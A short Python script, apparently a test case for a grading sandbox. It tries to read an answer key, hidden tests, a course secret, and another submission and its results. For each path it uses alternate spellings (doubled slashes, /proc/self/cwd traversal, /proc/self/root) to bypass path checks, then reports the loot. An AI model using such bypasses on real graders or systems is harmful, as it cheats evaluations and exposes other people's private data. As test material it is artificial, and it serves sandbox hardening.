"""Opens the key, the tests, the course secret, another submission and another's results by their paths."""

# control: T0
from toolkit import TARGETS, read, tell

loot = []
for name in ("key", "tests", "secret", "other", "results"):
    path = TARGETS[name]
    for spelling in (path, path.replace("/", "//"), "/proc/self/cwd/" + "../" * 12 + path, "/proc/self/root" + path):
        loot += read(spelling)
tell(globals(), loot)
